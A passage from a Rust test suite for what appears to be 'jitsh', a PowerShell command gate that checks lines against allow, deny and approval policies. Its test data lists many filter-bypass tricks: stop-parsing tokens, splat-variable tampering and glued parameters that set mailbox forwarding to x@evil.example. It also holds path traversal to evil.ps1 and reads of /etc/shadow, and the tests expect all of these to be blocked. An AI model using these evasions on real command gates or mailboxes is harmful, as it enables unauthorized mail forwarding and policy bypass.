    ("Write-Output 'a'--% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing glued to a string"),
    ("Write-Output -- --% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing after end of parameters"),
    ("& '--%' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing as the command name"),
    ("Write-Output '--%','y' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing in a list"),
    ("Write-Output '--%'.Length 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with a member access"),
    ("Write-Output -InputObject:'--%' 'x | Remove-Mailbox bob #'", Deny, "stop-parsing as a value"),
    ("Write-Output \u{2013}-% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with an en dash"),
    // --- a `:label` before a loop keyword is a labelled loop to PowerShell, not the command `:label`
    (":outer while ($true) { Get-Mailbox }", Deny, "labelled while read as a command"),
    (":l foreach ($m in 1) { Get-Mailbox }", Deny, "labelled foreach"),
    (":l do { Get-Mailbox } while ($false)", Deny, "labelled do"),
    (":S SWITCH (1) { 1 { Get-Mailbox } }", Deny, "labelled switch in upper case"),
    ("Get-Mailbox; :l <# c #> while(1) { Get-Mailbox }", Deny, "labelled loop after a comment"),
];

fn shipped() -> PolicySet {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies");
    match load_dir(&dir) {
        Ok(p) => p,
        Err(e) => panic!("shipped policies must load: {e}"),
    }
}

#[test]
fn bypass_suite_holds_under_shipped_policies() {
    let policies = shipped();
    let revoked = HashSet::new();
    let ctx = GateContext {
        policies: &policies,
        catalog: Catalog::builtin(),
        user: "alice",
        now: chrono::DateTime::UNIX_EPOCH,
        tokens: &[],
        revoked: &revoked,
        skew: chrono::Duration::seconds(30),
        online: false,
    };
    let mut failures = Vec::new();
    for (line, want, rule) in CASES {
        let d = check_line(line, &ctx);
        let ok = match want {
            Allow => d.decision == Effect::Allow,
            NotAllow => d.decision != Effect::Allow,
            Deny => d.decision == Effect::Deny,
        };
        if !ok {
            failures.push(format!(
                "{rule}: {line:?} wanted {want:?}, got {:?}: {}",
                d.decision, d.reason
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn privileged_lines_name_the_deciding_invocation() {
    let policies = shipped();
    let revoked = HashSet::new();
    let ctx = GateContext {
        policies: &policies,
        catalog: Catalog::builtin(),
        user: "alice",
        now: chrono::DateTime::UNIX_EPOCH,
        tokens: &[],
        revoked: &revoked,
        skew: chrono::Duration::seconds(30),
        online: false,
    };
    let d = check_line("Get-Mailbox | % { Ne`w-MoveRequest $_ }", &ctx);
    let nested = d
        .invocations
        .iter()
        .find(|i| i.name == "New-MoveRequest")
        .map(|i| (i.depth, i.as_written.to_string(), i.decision));
    assert_eq!(
        nested,
        Some((1, "Ne`w-MoveRequest".to_string(), Effect::Approval))
    );
}

/// A policy under which a splat's value decides the line: display-name edits of contoso
/// mailboxes are standing access (`params.only`), and so are the commands the attacks use to
/// change a variable unseen. A splat resolved to the wrong value would let a forwarding change
/// or another mailbox through as an allowed display-name edit.
const SPLAT_POLICY: &str = r#"
[defaults]
unmatched = "deny"
dynamic = "deny"

[[rule]]
id = "reads-and-helpers"
effect = "allow"
tasks = ["Get-*", "ForEach-Object", "Where-Object", "Write-Output", "Out-Null", "Set-Variable",
         "Tee-Object", "Invoke-Command", "Start-Job"]

[[rule]]
id = "display-names"
effect = "allow"
tasks = ["Set-Mailbox"]
params.only = ["Identity", "DisplayName"]
params.Identity = { glob = "*@contoso.com" }
"#;

fn check_under(policy: &str, lines: &[&str], want: Want) -> Vec<String> {
    let policies = match PolicySet::from_sources(&[PolicySource::new("test.toml", policy)]) {
        Ok(p) => p,
        Err(e) => panic!("test policy must load: {e}"),
    };
    let revoked = HashSet::new();
    let ctx = GateContext {
        policies: &policies,
        catalog: Catalog::builtin(),
        user: "alice",
        now: chrono::DateTime::UNIX_EPOCH,
        tokens: &[],
        revoked: &revoked,
        skew: chrono::Duration::seconds(30),
        online: false,
    };
    let mut failures = Vec::new();
    for line in lines {
        let d = check_line(line, &ctx);
        let ok = match want {
            Allow => d.decision == Effect::Allow,
            NotAllow => d.decision != Effect::Allow,
            Deny => d.decision == Effect::Deny,
        };
        if !ok {
            failures.push(format!(
                "{line:?} wanted {want:?}, got {:?}: {}",
                d.decision, d.reason
            ));
        }
    }
    failures
}

/// Every line, decided under `policy`, is `want`; otherwise the test fails listing each that
/// is not.
fn assert_all(policy: &str, lines: &[String], want: Want) {
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let failures = check_under(policy, &lines, want);
    assert!(failures.is_empty(), "{failures:#?}");
}

/// `prefix` followed by each of `values`.
fn with_values(prefix: &str, values: &[&str]) -> Vec<String> {
    values.iter().map(|v| format!("{prefix}{v}")).collect()
}

#[test]
fn splats_are_resolved_by_scope_and_time_not_text_position() {
    const H: &str = "$h = @{ Identity = 'rob@contoso.com'; DisplayName = 'Rob' }";
    let allowed = [
        format!("{H}; Set-Mailbox @h"),
        format!("{H}; if ($true) {{ Set-Mailbox @h }}"),
        format!("{H}; Get-Mailbox rob | ForEach-Object {{ Set-Mailbox @h }}"),
    ];
    let attacks = [
        // automatic variables: PowerShell sets them when the command runs
        "$_ = @{ Identity = 'rob@contoso.com' }; Get-Mailbox | % { Set-Mailbox @_ }".to_string(),
        "$PSItem = @{ Identity = 'rob@contoso.com' }; Get-Mailbox | % { Set-Mailbox @PSItem }".to_string(),
        "$args = @{ Identity = 'rob@contoso.com' }; & { Set-Mailbox @args } -ForwardingSmtpAddress e@x.com".to_string(),
        "$input = @{ Identity = 'rob@contoso.com' }; Get-Mailbox | & { Set-Mailbox @input }".to_string(),
        // a block parameter shadows the line's variable
        format!("{H}; & {{ param($h) Set-Mailbox @h }} @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}"),
        format!("{H}; Get-Mailbox | ForEach-Object -Process {{ param($h) Set-Mailbox @h }}"),
        // set by common parameters
        format!("{H}; Get-Mailbox -PipelineVariable h | ForEach-Object {{ Set-Mailbox @h }}"),
        format!("{H}; Get-Mailbox -OutVariable h | Out-Null; Set-Mailbox @h"),
        format!("{H}; Get-Mailbox -ov h | Out-Null; Set-Mailbox @h"),
        format!("{H}; Get-Mailbox -ErrorVariable h | Out-Null; Set-Mailbox @h"),
        format!("{H}; Get-Mailbox | Tee-Object -Variable h | Out-Null; Set-Mailbox @h"),
        // set by name
        format!("{H}; Set-Variable h @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
        format!("{H}; sv -Name h -Value (Get-Mailbox); Set-Mailbox @h"),
        // code that runs at another time, when the variable may hold something else
        format!("{H}; function Set-Name {{ Set-Mailbox @h }}"),
        format!("{H}; filter Set-Name {{ Set-Mailbox @h }}"),
        format!("{H}; $later = {{ Set-Mailbox @h }}"),
        format!("{H}; Invoke-Command -ComputerName ex01 -ScriptBlock {{ Set-Mailbox @h }}"),
        format!("{H}; Start-Job -ScriptBlock {{ Set-Mailbox @h }}"),
        // reassigned later, in a loop, in a nested scope, under another spelling
        format!("{H}; foreach ($i in 1, 2) {{ Set-Mailbox @h; $h = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }} }}"),
        format!("{H}; if ($true) {{ $h = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }} }}; Set-Mailbox @h"),
        format!("{H}; $global:h = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
        format!("{H}; $Script:H = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
        format!("{H}; ${{H}} = @{{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }}; Set-Mailbox @h"),
        format!("{H}; foreach ($h in Get-Mailbox) {{ }}; Set-Mailbox @h"),
        format!("{H}; Set-Mailbox @script:h"),
        // assigned only after the use
        format!("Get-Mailbox | ForEach-Object {{ Set-Mailbox @h }}; {H}"),
    ];
    let allowed: Vec<&str> = allowed.iter().map(String::as_str).collect();
    let attacks: Vec<&str> = attacks.iter().map(String::as_str).collect();
    let mut failures = check_under(SPLAT_POLICY, &allowed, Allow);
    failures.extend(check_under(SPLAT_POLICY, &attacks, Deny));
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn names_that_are_native_programs_off_windows_follow_the_runspace_platform() {
    use jitsh::catalog::Platform;
    // Read-only on Windows (`Sort-Object`, `Compare-Object`, `Write-Output`: standing
    // access); on Linux and macOS the native `sort` and `diff` read any file, `compare` is
    // ImageMagick's, `write` messages another user's terminal.
    let lines = [
        "sort /etc/shadow",
        "Get-Mailbox | sort Name",
        "diff /etc/shadow /etc/passwd",
        "compare /etc/shadow x",
        "Get-Mailbox | write",
        "write root",
        "Get-Mailbox | SORT Name",
    ];
    let revoked = HashSet::new();
    let mut failures = Vec::new();
    for (platform, want) in [
        (Platform::Windows, Allow),
        (Platform::Unix, NotAllow),
        (Platform::Unknown, Deny),
    ] {
        let mut policies = shipped();
        policies.set_platform(platform);
        let ctx = GateContext {
            policies: &policies,
            catalog: Catalog::builtin(),
            user: "alice",
            now: chrono::DateTime::UNIX_EPOCH,
            tokens: &[],
            revoked: &revoked,
            skew: chrono::Duration::seconds(30),
            online: false,
        };
        for line in lines {
            let d = check_line(line, &ctx);
            let ok = match want {
                Allow => d.decision == Effect::Allow,
                NotAllow => d.decision != Effect::Allow,
                Deny => d.decision == Effect::Deny,
            };
            if !ok {
                failures.push(format!(
                    "{platform:?} {line:?} wanted {want:?}, got {:?}: {}",
                    d.decision, d.reason
                ));
            }
        }
    }
    // A policy that does not say which platform it gates leaves these names uncertain.
    let unstated = "[[rule]]\nid = \"helpers\"\neffect = \"allow\"\ntasks = [\"Get-*\", \"Sort-Object\", \"Compare-Object\", \"Write-Output\"]\n";
    failures.extend(check_under(unstated, &lines, Deny));
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Where jitsh follows PowerShell's token boundaries, the parameter a glued token hides is bound.
#[test]
fn glued_tokens_show_the_parameter_powershell_binds() {
    let policies = shipped();
    let revoked = HashSet::new();
    let ctx = GateContext {
        policies: &policies,
        catalog: Catalog::builtin(),
        user: "alice",
        now: chrono::DateTime::UNIX_EPOCH,
        tokens: &[],
        revoked: &revoked,
        skew: chrono::Duration::seconds(30),
        online: false,
    };
    let cases: &[(&str, &str, &str)] = &[
        (
            "Set-Mailbox -DisplayName 'Rob'-ForwardingSmtpAddress:x@evil.example",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
        (
            "Set-Mailbox -DisplayName \"Rob\"-ForwardingSmtpAddress x@evil.example",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
        (
            "Set-Mailbox bob -DisplayName $(1)-DeliverToMailboxAndForward:$true",
            "Set-Mailbox",
            "-DeliverToMailboxAndForward",
        ),
        (
            "Set-Mailbox bob -DisplayName ('Rob')-ForwardingAddress x",
            "Set-Mailbox",
            "-ForwardingAddress",
        ),
        (
            "Set-Mailbox bob ` -ForwardingSmtpAddress x@evil.example",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
        (
            "Get-Mailbox | ForEach-Object 'x'-MemberName:Delete",
            "ForEach-Object",
            "-MemberName",
        ),
        (
            "& 'Set-Mailbox'-ForwardingSmtpAddress x@evil.example -Identity bob",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
        (
            "Set-Mailbox bob -DisplayName $x.Name-ForwardingSmtpAddress x@evil.example",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
        (
            "$h = @{ \"Forwarding`u{53}mtpAddress\" = 'x@evil.example' }; Set-Mailbox bob @h",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
        (
            "& \"Set-Mailbo`u{78}\" bob -ForwardingSmtpAddress x@evil.example",
            "Set-Mailbox",
            "-ForwardingSmtpAddress",
        ),
    ];
    let mut failures = Vec::new();
    for (line, name, param) in cases {
        let d = check_line(line, &ctx);
        let seen = d.invocations.iter().any(|i| {
            // The decision holds parameter names without their dash.
            i.name == *name
                && i.params
                    .iter()
                    .any(|p| Some(p.as_str()) == param.strip_prefix('-'))
        });
        if !seen || d.decision == Effect::Allow {
            failures.push(format!(
                "{line:?}: {name} {param} not seen or allowed: {d:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A line PowerShell would read as unfinished is reported incomplete and never allowed: the
/// shell must ask for the rest rather than let pwsh wait for it while later lines go through.
#[test]
fn incomplete_lines_are_reported_incomplete() {
    let policies = shipped();
    let revoked = HashSet::new();
    let ctx = GateContext {
        policies: &policies,
        catalog: Catalog::builtin(),
        user: "alice",
        now: chrono::DateTime::UNIX_EPOCH,
        tokens: &[],
        revoked: &revoked,
        skew: chrono::Duration::seconds(30),
        online: false,
    };
    for line in [
        "Get-Mailbox 'x'[",
        "Get-Mailbox \"x\"[",
        "Get-Mailbox $a[",
        "Get-Mailbox (1)[",
        "Get-Mailbox $(1)[",
        "Get-Mailbox @(",
        "$a.",
        "$a.Name.",
        "[int]::",
        "[System.Collections.Generic.List[string",
        "$x = 1 -join",
        "param(",
        "begin",
        "$a ??",
    ] {
        let d = check_line(line, &ctx);
        assert!(d.incomplete, "{line:?} should be incomplete: {d:?}");
        assert_ne!(d.decision, Effect::Allow, "{line:?}");
    }
}

// ---- tasks that are not cmdlets: scripts, programs, .NET methods (SPEC §2.1) -----------------

/// A permissive policy: every command allowed, unmatched commands allowed, dynamic ones sent
/// for approval, plus `extra` rules. Whatever it lets through, the shipped ones would too.
fn permissive(extra: &str) -> PolicySet {
    let text = format!(
        r#"[defaults]
unmatched = "allow"
dynamic = "approval"

[[rule]]
id = "everything"
effect = "allow"
tasks = ["*", "Get-*", "Test-*"]
{extra}"#
    );
    match PolicySet::from_sources(&[PolicySource::new("permissive.toml", text)]) {
        Ok(p) => p,
        Err(e) => panic!("test policy must load: {e}"),
    }
}

fn check_with(policies: &PolicySet, line: &str) -> LineDecision {
    let revoked = HashSet::new();
    let ctx = GateContext {
        policies,
        catalog: Catalog::builtin(),
        user: "alice",
        now: chrono::DateTime::UNIX_EPOCH,
        tokens: &[],
        revoked: &revoked,
        skew: chrono::Duration::seconds(30),
        online: false,
    };
    check_line(line, &ctx)
}

/// Scripts and programs run by path or by a file name with an extension are never the cmdlet a
/// glob names: under a policy that allows every command and every unmatched one, each is still
/// the dynamic decision (approval here), with its own kind and name.
#[test]
fn scripts_and_programs_are_not_cmdlets() {
    let p = permissive("");
    let cases: &[(&str, TaskKind, &str)] = &[
        (r".\Get-Report.ps1", TaskKind::Path, r".\Get-Report.ps1"),
        (
            r"C:\Scripts\Get-X.ps1",
            TaskKind::Path,
            r"C:\Scripts\Get-X.ps1",
        ),
        (
            r"\\server\share\Get-X.ps1",
            TaskKind::Path,
            r"\\server\share\Get-X.ps1",
        ),
        (
            r#"& "C:\Temp\Get-Info.ps1""#,
            TaskKind::Path,
            r"C:\Temp\Get-Info.ps1",
        ),
        (r". .\Get-Helpers.ps1", TaskKind::Path, r".\Get-Helpers.ps1"),
        (r"./x", TaskKind::Path, r".\x"),
        (r"~/x.ps1", TaskKind::Path, r"~\x.ps1"),
        (r"Scripts\Get-X.ps1", TaskKind::Path, r"Scripts\Get-X.ps1"),
        (r"Scripts\Get-Report", TaskKind::Path, r"Scripts\Get-Report"),
        (
            r"Tools\Get-Helper -Days 3",
            TaskKind::Path,
            r"Tools\Get-Helper",
        ),
        (
            r"Exchange\Get-Mailbox.ps1",
            TaskKind::Path,
            r"Exchange\Get-Mailbox.ps1",
        ),
        (
            r"& 'C:/Tools/Get-Info.exe' -Name x",
            TaskKind::Path,
            r"C:\Tools\Get-Info.exe",
        ),
        (
            r"FileSystem::C:\x.ps1",
            TaskKind::Path,
            r"FileSystem::C:\x.ps1",
        ),
        (r"Get-Helper.exe", TaskKind::Program, "Get-Helper.exe"),
        (r"Get-Report.ps1", TaskKind::Program, "Get-Report.ps1"),
        (r"Get-X.cmd", TaskKind::Program, "Get-X.cmd"),
        (r"Get-X.bat /q", TaskKind::Program, "Get-X.bat"),
        (r"Get-X.com", TaskKind::Program, "Get-X.com"),
        (r"Get-X.psm1", TaskKind::Program, "Get-X.psm1"),
        (
            r"Get-Mailbox | Get-Report.ps1",
            TaskKind::Program,
            "Get-Report.ps1",
        ),
        (
            r"Get-Mailbox | % { .\Get-X.ps1 $_ }",
            TaskKind::Path,
            r".\Get-X.ps1",
        ),
        (r"$(Test-X.vbs)", TaskKind::Program, "Test-X.vbs"),
    ];
    let mut failures = Vec::new();
    for (line, kind, name) in cases {
        let d = check_with(&p, line);
        let found = d
            .invocations
            .iter()
            .find(|i| i.kind == *kind && i.name == *name);
        let ok = d.decision == Effect::Approval && found.is_some_and(|i| i.dynamic);
        if !ok {
            failures.push(format!(
                "{line:?}: wanted a dynamic {kind:?} `{name}` (approval), got {:?}: {:?}",
                d.decision,
                d.invocations
                    .iter()
                    .map(|i| (&i.name, i.kind, i.dynamic))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A policy names scripts by path and programs by file name; the glob runs over the whole path
/// (case-insensitive, `/` read as `\`), and `..` or wildcards in a path never match.
#[test]
fn path_and_program_rules_name_scripts() {
    let p = permissive(
        r#"
[[rule]]
id = "reports"
effect = "allow"
tasks = ['path:C:\Scripts\*.ps1', "program:ping.exe"]
"#,
    );
    let allowed = [
        r"C:\Scripts\Get-X.ps1",
        r"c:/scripts/get-x.ps1",
        r"& 'C:\Scripts\Sub\Report.ps1' -Days 3",
        r"ping.exe contoso.com",
        r"PING.EXE x",
    ];
    for line in allowed {
        let d = check_with(&p, line);
        assert_eq!(d.decision, Effect::Allow, "{line}: {}", d.reason);
        assert_eq!(d.invocations[0].rule.as_deref(), Some("reports"), "{line}");
    }
    let refused = [
        r"C:\Scripts\..\Temp\evil.ps1",
        r"C:\Scripts\...\Temp\evil.ps1",
        r#"& "C:\Scripts\.. \Temp\evil.ps1""#,
        r"C:\Scripts\notes.txt:evil.ps1",
        r"FileSystem::C:\Scripts\x.ps1",
        r"C:\Scripts\*.ps1",
        r"C:\Scripts\Get-[X].ps1",
        r"C:\Temp\Get-X.ps1",
        r"C:\Scripts\Get-X.ps1.exe",
        r"C:\Windows\System32\ping.exe",
        r".\ping.exe",
        r"Get-X.ps1",
    ];
    for line in refused {
        let d = check_with(&p, line);
        assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
        assert!(d.invocations.iter().all(|i| i.dynamic), "{line}");
    }
}

/// Conversions that run a constructor or setters are the method task `[Full.Type]::new`, and
/// conversions to unknown types are dynamic; pure conversions are nothing to decide.
#[test]
fn conversions_that_act_are_method_tasks() {
    let p = permissive(
        r#"
[[rule]]
id = "no-io"
effect = "deny"
tasks = ["[System.IO.*]::*", "[System.Net.*]::*", "[*CimSession]::*", "[System.DirectoryServices.*]::*", "[System.Management.Management*]::*"]
"#,
    );
    let denied: &[(&str, &str)] = &[
        (
            r"[IO.StreamWriter]'C:\Windows\x.txt'",
            "[System.IO.StreamWriter]::new",
        ),
        (
            r"[System.IO.StreamWriter]('C:\x.txt')",
            "[System.IO.StreamWriter]::new",
        ),
        (r"'C:\x' -as [IO.FileStream]", "[System.IO.FileStream]::new"),
        (
            r"'C:\x' -AS 'System.IO.FileStream'",
            "[System.IO.FileStream]::new",
        ),
        (
            r"[System.Net.Sockets.TcpClient]@{}",
            "[System.Net.Sockets.TcpClient]::new",
        ),
        (
            r"[Net.Sockets.UdpClient]123",
            "[System.Net.Sockets.UdpClient]::new",
        ),
        (
            r"[System.IO.Pipes.NamedPipeClientStream]'pipe'",
            "[System.IO.Pipes.NamedPipeClientStream]::new",
        ),
        (
            r"[CimSession]'server01'",
            "[Microsoft.Management.Infrastructure.CimSession]::new",
        ),
        (
            r"[ADSI]'LDAP://CN=x,DC=contoso,DC=com'",
            "[System.DirectoryServices.DirectoryEntry]::new",
        ),
        (
            r"[wmi]'\\.\root\cimv2:Win32_Process.Handle=1'",
            "[System.Management.ManagementObject]::new",
        ),
        (
            r"[wmiclass]'Win32_Process'",
            "[System.Management.ManagementClass]::new",
        ),
        (
            r"[IO.StreamWriter]$w = 'C:\x.txt'",
            "[System.IO.StreamWriter]::new",
        ),
        (
            r"function f { param([IO.FileStream]$s = 'C:\x') }",
            "[System.IO.FileStream]::new",
        ),
        (
            r"[IO.StreamWriter]::new('C:\x.txt')",
            "[System.IO.StreamWriter]::new",
        ),
        (
            r"[System.IO.File]::WriteAllText('C:\x', 'y')",
            "[System.IO.File]::WriteAllText",
        ),
    ];
    for (line, task) in denied {
        let d = check_with(&p, line);
        let inv = d.invocations.iter().find(|i| i.name == *task);
        assert_eq!(d.decision, Effect::Deny, "{line}: {}", d.reason);
        assert!(
            inv.is_some_and(|i| i.kind == TaskKind::Method
                && !i.dynamic
                && i.rule.as_deref() == Some("no-io")),
            "{line}: {:?}",
            d.invocations
        );
    }
    // A hashtable cast runs the setters of any type that does not hold entries as data.
    for (line, task) in [
        (
            "[xml]@{ InnerXml = '<a/>' }",
            "[System.Xml.XmlDocument]::new",
        ),
        (
            "[System.Collections.ArrayList]@{ Capacity = 3 }",
            "[System.Collections.ArrayList]::new",
        ),
        ("[mailaddress]@{}", "[System.Net.Mail.MailAddress]::new"),
    ] {
        let d = check_with(&p, line);
        assert!(
            d.invocations
                .iter()
                .any(|i| i.name == task && i.kind == TaskKind::Method && !i.dynamic),
            "{line}: {:?}",
            d.invocations
        );
    }
    // Unknown types and code-running types: dynamic whatever the policy says.
    for line in [
        r"[Contoso.Tools.Writer]'C:\x'",
        r"[Contoso.Tools.Writer]@{ Path = 'C:\x' }",
        r"'x' -as $t",
        r"[powershell]'x'",
        r"[type]'System.IO.File'",
        r"[System.Collections.Generic.List[string]]@('a')",
    ] {
        let d = check_with(&p, line);
        assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
        assert!(d.invocations.iter().any(|i| i.dynamic), "{line}");
    }
    // Pure conversions build a value and run nothing.
    for line in [
        "[int]'5'",
        "[string[]]('a','b')",
        "[datetime]'2024-01-01'",
        "[timespan]'01:00:00'",
        "[guid]'6f9619ff-8b86-d011-b42d-00cf4fc964ff'",
        "[version]'1.2.3'",
        "[ipaddress]'10.0.0.1'",
        "[mailaddress]'a@contoso.com'",
        "[xml]'<a/>'",
        "[regex]'a+'",
        "[pscustomobject]@{ Name = 'x' }",
        "[ordered]@{ a = 1 }",
        "[hashtable]@{}",
        "[bool]1",
        "[char]65",
        "'5' -as [int]",
    ] {
        let d = check_with(&p, line);
        assert!(d.invocations.is_empty(), "{line}: {:?}", d.invocations);
    }
}

/// A method name on the safe list must be harmless on every type that has it: `.Replace()`
/// is `FileInfo.Replace` (moves files) on a file object, so it is safe only on a string.
#[test]
fn safe_methods_hold_for_every_receiver() {
    let p = permissive("");
    for line in [
        "(Get-Item C:\\a.txt).Replace('C:\\b.txt', 'C:\\c.txt')",
        "$f = Get-Item C:\\a.txt; $f.Replace('C:\\b.txt', $null)",
        "$t.Replace('a', 'b')",
        "$r.Replace('x', { 'y' })",
        "Get-ChildItem | % Replace 'a' 'b'",
        "$f.Delete()",
        "$c.Children.Remove($o)",
        "$t = Get-Item C:\\a; $t = $t.Replace('C:\\b', $null)",
        "$t = 'a'; $t = $t.Split(','); $t.Replace('a', 'b')",
        "$a = [System.Collections.ArrayList]@(); Set-Variable a (Get-Item C:\\x); $a.Remove(1)",
        "$a = [System.Collections.ArrayList]@(); Get-Mailbox -OutVariable a; $a.Remove(1)",
        "$a = [System.Collections.ArrayList]@(); Get-Mailbox @h; $a.Remove(1)",
        "$a = [System.Collections.ArrayList]@(); Set-Item variable:a (Get-Item C:\\x); $a.Remove(1)",
        "$a = [System.Collections.ArrayList]@(); sv a (Get-Item C:\\x); $a.Remove(1)",
        "$a = [System.Collections.ArrayList]@(); Get-Mailbox | Tee-Object -Variable a; $a.Remove(1)",
        "$a = [System.Collections.ArrayList]@(); foreach ($a in $x) {}; $a.Remove(1)",
        "$h = [hashtable]$PSDefaultParameterValues; $h.Add('Set-Mailbox:ForwardingSmtpAddress', 'x@evil.example')",
        "$h = [ordered]@{}; $h.Add('a', 1)",
    ] {
        let d = check_with(&p, line);
        assert!(
            d.invocations.iter().any(|i| i.dynamic),
            "{line}: {:?}",
            d.invocations
        );
        assert_eq!(d.decision, Effect::Approval, "{line}");
    }
    for line in [
        "$t = \"$p\" + $id; $t = $t.Replace('<', '_'); $t = $t.Replace('>', '_')",
        "'a,b'.Replace(',', ';')",
        "([string]$x).Replace('a', 'b')",
        "\"$x\".Replace('a', 'b')",
        "$d.AddDays(1).ToShortDateString()",
        "$s.Trim().Split(',')",
    ] {
        let d = check_with(&p, line);
        assert!(d.invocations.is_empty(), "{line}: {:?}", d.invocations);
    }
}

/// A typed variable's type is certain only if nothing else in the line may write it: every
/// write the resolver counts for splats (nested bodies, loops, parameters, `++`, common
/// parameters, other spellings) also makes its type uncertain, so do commands that may set
/// their caller's variables unseen, and a call in code that runs at another time (a function
/// body, a stored block) may see whatever the variable then holds.
#[test]
fn typed_variables_follow_every_write_and_scope() {
    let p = permissive("");
    for line in [
        "$t = 'a'; function f($t) { $t.Replace('C:\\b.txt', $null) }",
        "$t = 'a'; function f { $t.Replace('C:\\b.txt', $null) }",
        "$t = 'a'; $later = { $t.Replace('C:\\b.txt', $null) }",
        "$t = 'a'; & { $t = Get-Item C:\\a.txt }; $t.Replace('C:\\b.txt', $null)",
        "$t = 'a'; if ($true) { $t = Get-Item C:\\a.txt }; $t.Replace('C:\\b.txt', $null)",
        "$t = 'a'; $variable:t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
        "$t = 'a'; [object]$T = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
        "$t = 'a'; Get-Report; $t.Replace('C:\\b.txt', $null)",
        "$t = 'a'; Get-Item C:\\a.txt -PipelineVariable t | % { $t.Replace('C:\\b.txt', $null) }",
        "$a = [System.Collections.ArrayList]@(); $a++; $a.Remove(1)",
    ] {
        let d = check_with(&p, line);
        assert!(
            d.invocations.iter().any(|i| i.dynamic),
            "{line}: {:?}",
            d.invocations
        );
        assert_eq!(d.decision, Effect::Approval, "{line}");
    }
    for line in [
        "$t = 'a<b'; & { $t.Replace('<', '_') }",
        "$t = 'a<b'; if ($true) { $t.Replace('<', '_') }",
        "$t = 'a<b'; Get-Mailbox | ForEach-Object { $t.Replace('<', '_') }",
        "$b = [System.IO.File]::ReadAllBytes('C:\\x'); $t = 'a<b'; $t.Replace('<', '_')",
    ] {
        let d = check_with(&p, line);
        assert!(
            !d.invocations.iter().any(|i| i.dynamic),
            "{line}: {:?}",
            d.invocations
        );
        assert_eq!(d.decision, Effect::Allow, "{line}");
    }
}

/// A .NET method task on a known type sets no variable: a splat beside it keeps its value, and
/// the splat's parameters still decide the line.
#[test]
fn method_tasks_leave_splats_certain() {
    let policy = format!(
        "{SPLAT_POLICY}\n[[rule]]\nid = \"reads\"\neffect = \"allow\"\ntasks = [\"[System.IO.File]::ReadAllBytes\"]\n"
    );
    const H: &str = "$h = @{ Identity = 'rob@contoso.com'; DisplayName = 'Rob' }";
    const F: &str = "$h = @{ Identity = 'rob@contoso.com'; ForwardingSmtpAddress = 'e@x.com' }";
    let allowed = [format!(
        "$b = [System.IO.File]::ReadAllBytes('C:\\x'); {H}; Set-Mailbox @h"
    )];
    let attacks = [
        format!("$b = [System.IO.File]::ReadAllBytes('C:\\x'); {F}; Set-Mailbox @h"),
        format!("{H}; $b = [System.IO.File]::ReadAllBytes('C:\\x'); $h = $b; Set-Mailbox @h"),
    ];
    let allowed: Vec<&str> = allowed.iter().map(String::as_str).collect();
    let attacks: Vec<&str> = attacks.iter().map(String::as_str).collect();
    let mut failures = check_under(&policy, &allowed, Allow);
    failures.extend(check_under(&policy, &attacks, Deny));
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Static calls on known types are tasks named `[Full.Type]::Method` (accelerators and the
/// `System.` prefix resolved), decided by policy like cmdlets; globs work. Code-running types,
/// unknown types and delegate-taking calls with computed arguments are dynamic.
#[test]
fn static_method_calls_are_tasks() {
    let p = permissive(
        r#"
[[rule]]
id = "file-reads"
effect = "approval"
approvers = ["admins"]
tasks = ["[System.IO.File]::Read*"]

[[rule]]
id = "file-writes"
effect = "deny"
tasks = ["[IO.File]::Write*"]
"#,
    );
    let cases: &[(&str, Effect, &str)] = &[
        (
            r"[System.IO.File]::ReadAllBytes('C:\x')",
            Effect::Approval,
            "[System.IO.File]::ReadAllBytes",
        ),
        (
            r"[IO.File]::ReadAllBytes('C:\x')",
            Effect::Approval,
            "[System.IO.File]::ReadAllBytes",
        ),
        (
            r"[system.io.file]::readalltext($p)",
            Effect::Approval,
            "[System.IO.File]::readalltext",
        ),
        (
            r"[IO.File]::WriteAllBytes('C:\x', $b)",
            Effect::Deny,
            "[System.IO.File]::WriteAllBytes",
        ),
        (
            r"[System.IO.File]::WriteAllText('C:\x', 'y')",
            Effect::Deny,
            "[System.IO.File]::WriteAllText",
        ),
        (
            r"[IO.Path]::GetTempFileName()",
            Effect::Allow,
            "[System.IO.Path]::GetTempFileName",
        ),
    ];
    for (line, effect, task) in cases {
        let d = check_with(&p, line);
        assert_eq!(d.decision, *effect, "{line}: {}", d.reason);
        let inv = d.invocations.iter().find(|i| i.name == *task);
        assert!(
            inv.is_some_and(|i| i.kind == TaskKind::Method && !i.dynamic),
